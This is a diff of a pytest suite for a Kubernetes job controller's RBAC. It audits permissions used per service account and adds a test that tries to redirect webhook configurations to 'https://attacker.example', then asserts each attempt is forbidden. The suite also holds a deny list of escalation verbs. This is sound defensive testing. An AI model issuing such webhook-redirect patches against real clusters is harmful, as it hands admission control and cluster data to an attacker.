@@ -1,6 +1,7 @@
-"""The controller with its own account and nothing else: enough for jobs of every kind, and hardly more."""
+"""Each process with its own account and nothing else: enough for jobs of every kind, and hardly more."""
 
 import asyncio
+import json
 from collections.abc import Awaitable, Callable
 from typing import Any
 
@@ -10,7 +11,8 @@ from bireme.api.kinds import POD_GROUP, QUEUE
 from bireme.installation import rbac
 from bireme.installation.expressions import World as Known
 from bireme.installation.expressions import resolve
-from bireme.installation.names import CONTROLLER, account_user
+from bireme.installation.names import CONTROLLER, SCHEDULER, WEBHOOKS, account_user
+from bireme.kube.client import Client
 from bireme.kube.resources import (
     CONFIG_MAPS,
     LEASES,
@@ -25,7 +27,7 @@ from bireme.kube.resources import (
 )
 from support.cluster_world import World, connect, new_world, until
 from support.control_plane import ControlPlane
-from support.installation import Installation, audited
+from support.installation import Installation, apply, audited, node
 from support.jobs import colossalai, generic, kubeflow, mpi
 
 pytestmark = pytest.mark.xdist_group("installation")
@@ -37,11 +39,9 @@ RULES = (
     *rbac.KUBEFLOW_RULES,
     *rbac.LAUNCHER_RULES,
     *rbac.LEASE_RULES,
-    *rbac.CERTIFICATE_READ_RULES,
-    *rbac.CERTIFICATE_WRITE_RULES,
-    *rbac.WEBHOOK_RULES,
-    *rbac.TRUST_RULES,
 )
+WEBHOOK_USER = f"system:serviceaccount:{HOME}:{WEBHOOKS}"
+WEBHOOK_RULES = (*rbac.WEBHOOK_RULES, *rbac.WEBHOOK_GROUP_RULES, *rbac.WEBHOOK_HOME_RULES)
 HELD_TO_GRANT = {("get", "pods/exec"), ("create", "pods/exec")}
 """Never used by the controller: it must hold what it grants to launchers."""
 ASKED_BY_A_PLUGIN = {
@@ -68,8 +68,7 @@ def test_jobs_of_every_kind_run_with_the_controllers_own_permissions(plane: Cont
     installation = Installation(plane, HOME, {"kubeflow": {"enabled": True}})
     installation.apply()
     try:
-        with installation.controller():
-            installation.wait_ready()
+        with installation.running():
             play(plane, "rights-generic", generic_life)
             play(plane, "rights-finished", finished_member)
             play(plane, "rights-crews", crews_begin)
@@ -78,13 +77,49 @@ def test_jobs_of_every_kind_run_with_the_controllers_own_permissions(plane: Cont
         play_restart(plane, installation)
     finally:
         installation.remove()
-    entries = audited(plane, USER)
-    refused = [told(entry) for entry in entries if is_refused(entry)]
-    assert not refused, installation.log()
-    used = {use(entry) for entry in entries}
-    unused = [each for rule in RULES for each in granted(rule) if each not in used]
-    unexpected = [each for each in unused if each[:2] not in HELD_TO_GRANT | ASKED_BY_A_PLUGIN]
-    assert not unexpected, f"rules that nothing has used: {sorted(unexpected)}"
+    for user, rules in ((USER, RULES), (WEBHOOK_USER, WEBHOOK_RULES)):
+        entries = audited(plane, user)
+        refused = [told(entry) for entry in entries if is_refused(entry)]
+        assert not refused, installation.log() + installation.log(WEBHOOKS)
+        used = {use(entry) for entry in entries}
+        unused = [each for rule in rules for each in granted(rule) if each not in used]
+        unexpected = [each for each in unused if each[:2] not in HELD_TO_GRANT | ASKED_BY_A_PLUGIN]
+        assert not unexpected, f"rules of {user} that nothing has used: {sorted(unexpected)}"
+
+
+@pytest.mark.parametrize("watched", ["", "default"], ids=["all namespaces", "one"])
+def test_no_account_of_an_installation_may_change_a_webhook_configuration(
+    plane: ControlPlane, watched: str
+) -> None:
+    """Whoever may, reads and changes every object of the cluster: a stolen token must not be enough."""
+    on = {"kubeflow": {"enabled": True}, "scheduler": {"enabled": True}}
+    installation = Installation(plane, f"bireme-bound{watched}", {**on, "watchNamespace": watched})
+    accounts = [each["metadata"]["name"] for each in installation.objects if each["kind"] == "ServiceAccount"]
+    assert sorted(accounts) == [CONTROLLER, SCHEDULER, WEBHOOKS]
+    configurations = [each for each in installation.objects if each["kind"].endswith("Configuration")]
+    assert len(configurations) == 2
+    try:
+        installation.apply()
+        for account in accounts:
+            config = installation.account_kubeconfig(account)
+            for each in configurations:
+                for command, body in attacks_on_webhooks(each):
+                    done = plane.kubectl(*command, kubeconfig=config, check=False, input=body)
+                    assert "Forbidden" in done.stderr, (account, command, done.stdout, done.stderr)
+    finally:
+        installation.remove()
+
+
+def attacks_on_webhooks(configuration: dict[str, Any]) -> list[tuple[tuple[str, ...], str]]:
+    kind, name = configuration["kind"], configuration["metadata"]["name"]
+    url = [{"op": "add", "path": "/webhooks/0/clientConfig", "value": {"url": "https://attacker.example"}}]
+    other = {**configuration, "metadata": {"name": "mine"}}
+    return [
+        (("patch", kind, name, "--type=json", "-p", json.dumps(url)), ""),
+        (("apply", "--server-side", "--force-conflicts", "-f", "-"), json.dumps(configuration)),
+        (("delete", kind, name), ""),
+        (("create", "-f", "-"), json.dumps(other)),
+    ]
 
 
 def test_permissions_in_one_namespace_are_enough_for_its_jobs(plane: ControlPlane) -> None:
@@ -94,8 +129,9 @@ def test_permissions_in_one_namespace_are_enough_for_its_jobs(plane: ControlPlan
 
     async def scene(world: World) -> None:
         await asyncio.to_thread(installation.apply)
-        with installation.controller():
+        with installation.controller(), installation.webhooks():
             await asyncio.to_thread(installation.wait_ready)
+            await asyncio.to_thread(installation.wait_webhooks)
             job = generic(replicas=1)
             await world.create(job)
             await world.wait_pods("job-worker-0")
@@ -107,7 +143,7 @@ def test_permissions_in_one_namespace_are_enough_for_its_jobs(plane: ControlPlan
         play(plane, "rights-one", scene)
     finally:
         installation.remove()
-    entries = audited(plane, user)
+    entries = audited(plane, user) + audited(plane, f"system:serviceaccount:bireme-one:{WEBHOOKS}")
     assert entries
     assert not [told(entry) for entry in entries if is_refused(entry)], installation.log()
     elsewhere = [e for e in entries if (e.get("objectRef") or {}).get("namespace") not in _ONE_NAMESPACE]
@@ -115,11 +151,7 @@ def test_permissions_in_one_namespace_are_enough_for_its_jobs(plane: ControlPlan
 
 
 _ONE_NAMESPACE = ("rights-one", "bireme-one")
-_OF_THE_CLUSTER = {
-    "selfsubjectreviews.authentication.k8s.io",
-    "mutatingwebhookconfigurations.admissionregistration.k8s.io",
-    "validatingwebhookconfigurations.admissionregistration.k8s.io",
-}
+_OF_THE_CLUSTER: set[str] = set()
 
 
 async def finished_member(world: World) -> None:
@@ -232,10 +264,29 @@ async def queue_of_a_user(plane: ControlPlane, world: World) -> None:
     await world.client.create(resource_of(QUEUE), None, queue)
     pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "pod"}, **_POD}
     pod["metadata"]["labels"] = {"scheduler.tensorstack.dev/queue": "narrow"}
-    pod["spec"] = {**pod["spec"], "schedulerName": "t9k-scheduler"}
+    container = {"name": "main", "image": "x:1", "resources": {"requests": {"cpu": "500m"}}}
+    pod["spec"] = {"containers": [container], "schedulerName": "t9k-scheduler"}
     async with connect(plane, str(plane.kubeconfig_for("ann", ["system:masters"]))) as client:
         await client.create(PODS, world.namespace, pod)
+        await resized(plane, client, world)
+        group = {"apiVersion": POD_GROUP.api_version, "kind": "PodGroup", "metadata": {"name": "group"}}
+        spec_of_group = {"minMember": 1, "queue": "narrow"}
+        await client.create(resource_of(POD_GROUP), world.namespace, {**group, "spec": spec_of_group})
+        member = {**pod, "metadata": {"name": "member", "labels": dict(_MEMBER)}}
+        await client.create(PODS, world.namespace, member)
     await world.client.delete(resource_of(QUEUE), None, "narrow")
+
+
+async def resized(plane: ControlPlane, client: Client, world: World) -> None:
+    """A pod that runs grows, which the queue's shape profile is asked about."""
+    profile = {"spec": {"resourceShapeProfile": "small"}}
+    await client.patch(resource_of(QUEUE), None, "narrow", profile)
+    shapes = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "resource-shapes"}}
+    await client.create(CONFIG_MAPS, HOME, {**shapes, "data": {"small": '{"cpu": "2"}'}})
+    await asyncio.to_thread(apply, plane, [node()])
+    await client.bind(world.namespace, "pod", "somewhere")
+    grown = {"spec": {"containers": [{"name": "main", "resources": {"requests": {"cpu": "1"}}}]}}
+    await client.patch(PODS, world.namespace, "pod", grown, kind="strategic", subresource="resize")
 
 
 def play_restart(plane: ControlPlane, installation: Installation) -> None:
@@ -244,11 +295,12 @@ def play_restart(plane: ControlPlane, installation: Installation) -> None:
     async def scene(world: World) -> None:
         jobs = [mpi("job"), kubeflow("flow")]
         pods = ("job-launcher", "job-worker-0", "job-worker-1", "flow-launcher", "flow-worker-0")
-        with installation.controller():
+        with installation.controller(), installation.webhooks():
+            await asyncio.to_thread(installation.wait_webhooks)
             for job in jobs:
                 await world.create(job)
             await world.wait_pods(*pods)
-        with installation.controller():
+        with installation.controller(), installation.webhooks():
 
             async def is_held() -> bool:
                 lease = await world.client.get(LEASES, HOME, CONTROLLER)
@@ -265,6 +317,7 @@ def play_restart(plane: ControlPlane, installation: Installation) -> None:
 
 
 _PORTS: dict[str, Any] = {"service": {"ports": [{"port": 80}]}}
+_MEMBER = {"scheduler.tensorstack.dev/group-name": "group"}
 _POD: dict[str, Any] = {"spec": {"containers": [{"name": "main", "image": "registry.example/x:1"}]}}
 
 
@@ -289,7 +342,7 @@ async def _wait_stopped(world: World, name: str) -> None:
 
 NAMED = {
     (resource, str(resolve(name, Known({"watchNamespace": ""}, HOME, ""))))
-    for rule in RULES
+    for rule in (*RULES, *WEBHOOK_RULES)
     for resource in rule.resources
     for name in rule.names
 }
@@ -326,12 +379,13 @@ def told(entry: dict[str, Any]) -> str:
 def test_no_rule_is_wider_than_it_may_be() -> None:
     """No wildcard, nothing by which one could rise, no Secrets of everybody, exec in one role alone."""
     assert resolve(account_user("x"), Known({}, "x", "")) == f"system:serviceaccount:x:{CONTROLLER}"
-    for rule in (*RULES, *rbac.PLACED_RULES, *rbac.EDIT_RULES, *rbac.VIEW_RULES, *rbac.QUEUE_VIEW_RULES):
+    for rule in (*RULES, *WEBHOOK_RULES, *rbac.EDIT_RULES, *rbac.VIEW_RULES, *rbac.QUEUE_VIEW_RULES):
         words = {rule.group, *rule.resources, *rule.verbs}
         assert not words & {"*", "escalate", "bind", "impersonate", "proxy"}, rule
         if "secrets" in rule.resources:
             assert not set(rule.verbs) & {"list", "watch", "delete", "patch"}, rule
             assert "update" not in rule.verbs or rule.names, rule
+        assert not any("webhookconfigurations" in each for each in rule.resources), rule
         if "pods/exec" in rule.resources:
             assert rule in rbac.LAUNCHER_RULES
     assert not [rule for rule in rbac.EDIT_RULES if any("/status" in each for each in rule.resources)]
